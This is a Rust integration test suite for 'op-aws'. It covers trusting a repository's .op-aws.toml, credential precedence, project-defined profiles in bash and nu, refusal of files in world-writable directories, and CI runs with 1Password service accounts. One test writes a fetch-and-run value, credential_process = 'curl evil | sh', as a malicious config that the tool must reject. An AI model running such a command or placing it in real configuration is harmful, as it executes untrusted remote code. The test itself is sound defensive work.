//! Teams: a repository's `.op-aws.toml`, used only once trusted and only while its
//! content is the trusted one; the precedence table case by case; a profile defined only in the
//! project file through the real wrappers in bash and nu, against moto.

use std::path::{Path, PathBuf};
use std::process::Output;

use crate::support::{Moto, TestEnv, WHO_AM_I, ok, require, run_cmd, stderr, use_moto};

/// The access key id `op-aws run` hands to a command started in `dir`.
fn key_in(env: &TestEnv, dir: &Path, extra: &[&str]) -> Output {
    let mut args = vec!["run"];
    args.extend_from_slice(extra);
    args.extend(["--", "sh", "-c", "printf %s \"$AWS_ACCESS_KEY_ID\""]);
    let mut c = env.op_aws(&args);
    c.current_dir(dir);
    run_cmd(c, "")
}

fn key(env: &TestEnv, dir: &Path, extra: &[&str]) -> String {
    ok(
        key_in(env, dir, extra),
        &["run in", &dir.display().to_string()],
    )
}

fn in_dir(env: &TestEnv, dir: &Path, args: &[&str]) -> Output {
    let mut c = env.op_aws(args);
    c.current_dir(dir);
    run_cmd(c, "")
}

fn inspect(env: &TestEnv, dir: &Path) -> serde_json::Value {
    let out = ok(in_dir(env, dir, &["inspect", "--json"]), &["inspect"]);
    serde_json::from_str(&out).unwrap()
}

fn hook(env: &TestEnv, dir: &Path, marker: Option<&str>) -> (String, String) {
    let mut c = env.op_aws(&["hook-env", "--shell", "bash"]);
    c.current_dir(dir);
    if let Some(m) = marker {
        c.env("__OP_AWS_UNTRUSTED_WARNED", m);
    }
    let o = run_cmd(c, "");
    assert!(o.status.success(), "hook-env: {}", stderr(&o));
    let err = stderr(&o);
    (String::from_utf8(o.stdout).unwrap(), err)
}

/// The value hook-env exported for `var` (bash syntax: `export VAR=value`).
fn exported(out: &str, var: &str) -> Option<String> {
    out.lines()
        .find_map(|l| l.strip_prefix(&format!("export {var}=")))
        .map(|v| v.trim_matches('\'').to_owned())
}

fn mkdir(p: PathBuf) -> PathBuf {
    std::fs::create_dir_all(&p).unwrap();
    p
}

#[test]
fn a_project_file_is_used_only_once_trusted_and_until_it_changes() {
    let env = TestEnv::new();
    env.vault();
    env.add_keys("team", "AKIATEAMTEAMTEAMTEAM", "team-secret", None);
    env.add_keys("mine", "AKIAMINEMINEMINEMINE", "mine-secret", None);
    env.ok(&["use", "mine", "--global"]);
    let repo = mkdir(env.home.join("repo"));
    let sub = mkdir(repo.join("src/deep"));
    let file = env.write("repo/.op-aws.toml", "# the team's AWS\nitem = \"team\"\n");

    // Cloned, never trusted: nothing of it applies, and the hook says so once per shell.
    assert_eq!(key(&env, &sub, &[]), "AKIAMINEMINEMINEMINE");
    let (out, err) = hook(&env, &sub, None);
    let line = format!(
        "op-aws: {} is not trusted; run `op-aws trust",
        file.display()
    );
    assert!(err.contains(&line), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert_eq!(exported(&out, "OP_AWS_ITEM").as_deref(), Some("mine"));
    let marker = exported(&out, "__OP_AWS_UNTRUSTED_WARNED").expect("marker set");
    let (_, again) = hook(&env, &repo, Some(&marker));
    assert_eq!(again, "", "said once per file per shell");
    let i = inspect(&env, &sub);
    assert_eq!(i["project"]["trust"], "untrusted");
    assert_eq!(i["item"], "mine");

    // Trusted (from a subdirectory: the nearest file above): its default applies below it.
    let o = in_dir(&env, &sub, &["trust"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stderr(&o).contains("default item: team"), "{}", stderr(&o));
    assert_eq!(key(&env, &sub, &[]), "AKIATEAMTEAMTEAMTEAM");
    let i = inspect(&env, &sub);
    assert_eq!(i["project"]["trust"], "trusted");
    assert_eq!(i["defaults"][0]["scope"], "project");
    assert_eq!(i["defaults"][0]["path"], repo.display().to_string());
    assert_eq!(i["defaults"][1]["scope"], "global");
    let (out, err) = hook(&env, &sub, Some(&marker));
    assert_eq!(err, "");
    assert_eq!(exported(&out, "OP_AWS_SCOPE").as_deref(), Some("project"));
    // Outside the repository it does not apply.
    assert_eq!(key(&env, &env.home, &[]), "AKIAMINEMINEMINEMINE");

    // Changed by a pull: untrusted again, and the hook says it again (new content).
    std::fs::write(&file, "item = \"team\"\n# edited\n").unwrap();
    assert_eq!(key(&env, &sub, &[]), "AKIAMINEMINEMINEMINE");
    assert_eq!(inspect(&env, &sub)["project"]["trust"], "changed");
    let (_, err) = hook(&env, &sub, Some(&marker));
    assert!(err.contains("changed since it was trusted"), "{err}");

    // Without another default, the error names the file and the command.
    env.ok(&["clear", "--all", "--force"]);
    let o = key_in(&env, &sub, &[]);
    assert!(!o.status.success());
    let e = stderr(&o);
    assert!(
        e.contains(".op-aws.toml changed since it was trusted")
            && e.contains("hint: read it, then run `op-aws trust"),
        "{e}"
    );

    ok(in_dir(&env, &repo, &["trust", "."]), &["trust ."]);
    assert_eq!(key(&env, &sub, &[]), "AKIATEAMTEAMTEAMTEAM");
    ok(in_dir(&env, &sub, &["untrust"]), &["untrust"]);
    assert_eq!(inspect(&env, &sub)["project"]["trust"], "untrusted");
    let trusted = std::fs::read_to_string(env.config_dir().join("trusted.json")).unwrap();
    assert!(!trusted.contains("op-aws.toml"), "{trusted}");
}

#[test]
fn a_project_file_names_only_items_and_roles() {
    let env = TestEnv::new();
    let repo = mkdir(env.home.join("repo"));
    for (text, line, key) in [
        (
            "item = \"x\"\n\n[profiles.p]\nendpoint_url = \"http://203.0.113.9\"\n",
            4,
            "endpoint_url",
        ),
        (
            "credential_process = \"curl evil | sh\"\n",
            1,
            "credential_process",
        ),
        (
            "item = \"x\"\n[profiles.p]\nrole_arn = \"arn:aws:iam::1:role/R\"\nsso_session = \"corp\"\n",
            4,
            "sso_session",
        ),
    ] {
        std::fs::write(repo.join(".op-aws.toml"), text).unwrap();
        let o = in_dir(&env, &repo, &["trust"]);
        assert!(!o.status.success(), "{text}");
        let e = stderr(&o);
        assert!(
            e.contains(".op-aws.toml") && e.contains(&format!("line {line}")) && e.contains(key),
            "{text}: {e}"
        );
        assert!(!env.config_dir().join("trusted.json").exists());
    }
    // A symlink or a FIFO in its place is refused, and the hook never blocks on the FIFO.
    std::fs::remove_file(repo.join(".op-aws.toml")).unwrap();
    nix::unistd::mkfifo(&repo.join(".op-aws.toml"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    let (_, err) = hook(&env, &repo, None);
    assert!(err.contains("not a regular file"), "{err}");
    assert!(!in_dir(&env, &repo, &["trust"]).status.success());
}

#[test]
fn precedence_holds_case_by_case() {
    let mut env = TestEnv::new();
    env.vault();
    for name in [
        "flag",
        "cfgbound",
        "projbound",
        "sess",
        "dir",
        "proj",
        "glob",
    ] {
        let id = format!("AKIA{:0<16}", name.to_uppercase());
        env.add_keys(name, &id, "s", None);
    }
    let id = |name: &str| format!("AKIA{:0<16}", name.to_uppercase());
    let repo = mkdir(env.home.join("repo"));
    let work = mkdir(repo.join("work"));
    env.write(
        "repo/.op-aws.toml",
        "item = \"proj\"\n[profiles.p]\nitem = \"projbound\"\n[profiles.both]\nitem = \"projbound\"\n",
    );
    env.write("aws-config", "[profile both]\nop_aws_item = cfgbound\n");
    env.set(
        "AWS_CONFIG_FILE",
        env.home.join("aws-config").display().to_string(),
    );
    ok(in_dir(&env, &repo, &["trust"]), &["trust"]);
    env.ok(&["use", "glob", "--global"]);
    env.ok(&["use", "dir", "--directory", &work.display().to_string()]);
    env.set("OP_AWS_SESSION_ITEM", "sess");

    let cases: [(&str, &[&str], &str); 4] = [
        (
            "--item beats everything",
            &["--item", "flag", "--profile", "p"],
            "flag",
        ),
        (
            "the AWS config's op_aws_item beats the project's",
            &["--profile", "both"],
            "cfgbound",
        ),
        (
            "a profile's item (project file) beats the session",
            &["--profile", "p"],
            "projbound",
        ),
        ("the session beats a directory default", &[], "sess"),
    ];
    for (why, extra, want) in cases {
        assert_eq!(key(&env, &work, extra), id(want), "{why}");
    }
    env.extra_env.retain(|(k, _)| k != "OP_AWS_SESSION_ITEM");
    assert_eq!(
        key(&env, &work, &[]),
        id("dir"),
        "your directory default beats the project file"
    );
    assert_eq!(
        key(&env, &repo, &[]),
        id("proj"),
        "the project file beats global"
    );
    assert_eq!(key(&env, &env.home, &[]), id("glob"), "global elsewhere");
    let rows: Vec<String> = inspect(&env, &work)["defaults"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            format!(
                "{}:{}",
                d["scope"].as_str().unwrap(),
                d["item"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(rows, ["directory:dir", "project:proj", "global:glob"]);
    // clear removes your own defaults and leaves the project file's, saying how to stop it.
    let o = in_dir(&env, &work, &["clear", "--force"]);
    assert!(o.status.success(), "{}", stderr(&o));
    let o = in_dir(&env, &work, &["clear", "--force"]);
    assert!(!o.status.success());
    assert!(stderr(&o).contains("op-aws untrust"), "{}", stderr(&o));
}

#[test]
fn a_profile_defined_only_in_the_project_file_works_through_aws_profile_in_bash_and_nu() {
    let mut env = TestEnv::new();
    let moto = Moto::start();
    use_moto(&mut env, &moto);
    env.set("AWS_DEFAULT_REGION", "us-east-1");
    env.vault();
    let (_, key, secret) = moto.iam_user("team-user");
    env.add_keys("team", &key, &secret, None);
    // No AWS config at all: both profiles exist only in the project file.
    let repo = mkdir(env.home.join("repo"));
    env.write(
        "repo/.op-aws.toml",
        "[profiles.base]\nitem = \"team\"\n\n\
         [profiles.deploy]\nrole_arn = \"arn:aws:iam::210987654321:role/Deploy\"\nsource_profile = \"base\"\nrole_session_name = \"ci-deploy\"\n",
    );
    ok(in_dir(&env, &repo, &["trust"]), &["trust"]);
    let profiles = ok(in_dir(&env, &repo, &["profiles"]), &["profiles"]);
    assert_eq!(profiles, "base\ndeploy\n");

    let script = "eval \"$(op-aws activate bash)\"\ncd repo\naws --profile deploy sts get-caller-identity --output text --query Arn\n";
    let mut c = env.command(require("bash"));
    c.args(["--noprofile", "--norc", "-euo", "pipefail", "-c", script]);
    let arn = ok(run_cmd(c, ""), &["bash aws --profile deploy"]);
    assert!(arn.contains(":assumed-role/Deploy/ci-deploy"), "{arn}");

    let module = env.write("op-aws.nu", &env.ok(&["activate", "nu"]));
    let mut c = env.command(require("nu"));
    c.current_dir(&repo).args([
        "-n",
        "--no-std-lib",
        "-c",
        &format!(
            "source {}; aws --profile deploy sts get-caller-identity --output json | from json | get Arn",
            module.display()
        ),
    ]);
    let arn = ok(run_cmd(c, ""), &["nu aws --profile deploy"]);
    assert!(arn.contains(":assumed-role/Deploy/ci-deploy"), "{arn}");

    // Untrusted, the profile does not exist.
    ok(in_dir(&env, &repo, &["untrust"]), &["untrust"]);
    let o = in_dir(&env, &repo, &["run", "--profile", "deploy", "--", "true"]);
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("\"deploy\" is defined nowhere"),
        "{}",
        stderr(&o)
    );
}

/// A project file in a shared parent (mode 1777, like /tmp), written there by another user, is
/// never trusted by a bare `op-aws trust` without a person confirming it knowing whose it is,
/// nor offered by the hook as one to trust; nor is a file of one's own in a directory others
/// can write.
#[test]
fn trust_never_adopts_a_file_someone_else_could_have_written() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    env.vault();
    env.add_keys("prod", "AKIAPROD000000000001", "s", None);
    let shared = mkdir(env.root.path().join("shared"));
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let file = shared.join(".op-aws.toml");
    std::fs::write(&file, "item = \"prod\"\n").unwrap();
    let repo = mkdir(shared.join("mine"));
    let root = nix::unistd::geteuid().is_root();
    if root {
        // nobody's file
        nix::unistd::chown(&file, Some(65534.into()), Some(65534.into())).unwrap();
    } else {
        println!(
            "not root: only the world-writable directory is tried (no second user to own the file)"
        );
    }
    let o = in_dir(&env, &repo, &["trust"]);
    let e = stderr(&o);
    assert!(!o.status.success(), "trusted: {e}");
    assert!(e.starts_with("op-aws: refusing to trust "), "{e}");
    if root {
        assert!(e.contains("belongs to") && e.contains("65534"), "{e}");
    } else {
        assert!(e.contains("can be written by other users"), "{e}");
    }
    assert_eq!(e.lines().count(), 2, "one line and a hint: {e}");
    assert!(!env.config_dir().join("trusted.json").exists());
    let (_, notice) = hook(&env, &repo, None);
    assert!(
        notice.contains("it is not used") && !notice.contains("run `op-aws trust"),
        "the hook offered it: {notice}"
    );
    // One's own file, in a directory anyone can write: the same.
    if root {
        nix::unistd::chown(&file, Some(nix::unistd::geteuid()), None).unwrap();
        let e = stderr(&in_dir(&env, &repo, &["trust"]));
        assert!(e.contains("can be written by other users"), "{e}");
        assert!(!env.config_dir().join("trusted.json").exists());
    }
    // The same file in a directory of one's own is trusted as before.
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o755)).unwrap();
    ok(in_dir(&env, &repo, &["trust"]), &["trust"]);
}

mod ci {
    //! CI: the 1Password store with a service account or Connect, no terminal, no prompt.

    use serde_json::json;

    use super::*;
    use crate::onepassword::{
        calls, config, fails, fake_dir, gets, key_fields, op_env, op_item, put_items,
    };

    const TOKEN: &str = "ops_eyJzaWduSW5BZGRyZXNzIjoiZmFrZSJ9";

    fn ci_world(moto: &Moto) -> (TestEnv, String) {
        let mut env = op_env();
        use_moto(&mut env, moto);
        let (arn, key_id, secret) = moto.iam_user("ci-deployer");
        put_items(
            &env,
            &[
                op_item("ci1", "Shared CI", "AWS ci", key_fields(&key_id, &secret)),
                op_item("me1", "Private", "AWS mine", key_fields("AKIAMINE", "x")),
            ],
        );
        std::fs::write(
            fake_dir(&env).join("tokens.json"),
            json!({"service-account": TOKEN, "connect": "connect-token"}).to_string(),
        )
        .unwrap();
        config(&env, "store = \"1password\"\n");
        (env, arn)
    }

    #[test]
    fn two_hundred_aws_runs_with_a_service_account_read_the_item_once() {
        let moto = Moto::start();
        let (mut env, arn) = ci_world(&moto);
        env.set("OP_SERVICE_ACCOUNT_TOKEN", TOKEN);
        // The team's setup: the repository names the shared item; the job trusts its checkout.
        let repo = mkdir(env.home.join("checkout"));
        env.write(
            "checkout/.op-aws.toml",
            "item = \"op://Shared CI/AWS ci\"\n",
        );
        ok(in_dir(&env, &repo, &["trust"]), &["trust"]);
        assert!(env.agent_pid().is_none(), "no agent before the job");

        // 200 runs, four at a time, none with a terminal (stdin is a pipe).
        let failures = std::sync::Mutex::new(Vec::new());
        std::thread::scope(|s| {
            for _ in 0..4 {
                s.spawn(|| {
                    for _ in 0..50 {
                        let mut c = env.op_aws(&[&["run", "--"][..], &WHO_AM_I].concat());
                        c.current_dir(&repo);
                        let o = run_cmd(c, "");
                        let out = String::from_utf8_lossy(&o.stdout).trim().to_owned();
                        if !o.status.success() || out != arn {
                            failures
                                .lock()
                                .unwrap()
                                .push(format!("{out} {}", stderr(&o)));
                        }
                    }
                });
            }
        });
        let failures = failures.into_inner().unwrap();
        assert!(
            failures.is_empty(),
            "{} failed, first: {}",
            failures.len(),
            failures[0]
        );
        assert_eq!(gets(&env), 1, "one op item get for 200 runs");
        for c in calls(&env) {
            assert_eq!(c["auth"], "service-account");
            assert_eq!(c["stdin"], "null", "op never waits on a terminal: {c}");
        }
        // The agent that kept the item holds no token in its environment.
        let pid = env.agent_pid().expect("an agent started for the job");
        let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
        assert!(
            !String::from_utf8_lossy(&environ).contains(TOKEN),
            "the service account token reached the agent's environment"
        );
    }

    fn args(v: &[String]) -> Vec<&str> {
        v.iter().map(String::as_str).collect()
    }

    #[test]
    fn ci_errors_name_the_missing_variable_or_the_vault_it_cannot_read() {
        let moto = Moto::start();
        let (mut env, arn) = ci_world(&moto);
        let who = |item: &str| -> Vec<String> {
            [
                "run",
                "--item",
                item,
                "--",
                "aws",
                "sts",
                "get-caller-identity",
                "--query",
                "Arn",
                "--output",
                "text",
            ]
            .map(str::to_owned)
            .to_vec()
        };

        env.set("OP_CONNECT_HOST", "http://127.0.0.1:9");
        let e = fails(&env, &args(&who("op://Shared CI/AWS ci")));
        assert!(
            e.contains("OP_CONNECT_HOST is set but OP_CONNECT_TOKEN is not")
                && e.contains("hint: set OP_CONNECT_TOKEN"),
            "{e}"
        );
        assert_eq!(gets(&env), 0, "op is not run with half a Connect setup");

        // Connect, both set: it reads the shared vault.
        env.set("OP_CONNECT_TOKEN", "connect-token");
        assert_eq!(env.ok(&args(&who("op://Shared CI/AWS ci"))).trim(), arn);
        assert_eq!(calls(&env).last().unwrap()["auth"], "connect");
        env.extra_env.retain(|(k, _)| !k.starts_with("OP_CONNECT_"));

        env.set("OP_SERVICE_ACCOUNT_TOKEN", TOKEN);
        let e = fails(&env, &args(&who("op://Private/AWS mine")));
        assert!(
            e.contains(
                "vault \"Private\" cannot be read by the service account (OP_SERVICE_ACCOUNT_TOKEN)"
            ),
            "{e}"
        );
        assert!(
            e.contains("never reads Personal, Private or Employee"),
            "{e}"
        );

        // A bare title, with a service account that reads two vaults: op needs the vault.
        std::fs::write(
            fake_dir(&env).join("machine-vaults.json"),
            json!(["Shared CI", "Ops"]).to_string(),
        )
        .unwrap();
        let e = fails(&env, &args(&who("AWS ci")));
        assert!(
            e.contains("reads more than one vault") && e.contains("onepassword_vault"),
            "{e}"
        );

        env.set("OP_SERVICE_ACCOUNT_TOKEN", "ops_revoked");
        let e = fails(&env, &args(&who("op://Shared CI/AWS ci")));
        assert!(e.contains("1Password rejected the service account"), "{e}");
        assert!(
            !e.contains("ops_revoked"),
            "the token is never printed: {e}"
        );
    }

    #[test]
    fn ids_from_the_1password_plugin_name_items() {
        let moto = Moto::start();
        let (mut env, arn) = ci_world(&moto);
        env.set("OP_SERVICE_ACCOUNT_TOKEN", TOKEN);
        // By vault id and item id, as the 1Password plugin records them.
        assert_eq!(
            env.ok(&[
                "run",
                "--item",
                "op://v-shared ci/ci1",
                "--",
                "aws",
                "sts",
                "get-caller-identity",
                "--query",
                "Arn",
                "--output",
                "text",
            ])
            .trim(),
            arn
        );
    }
}
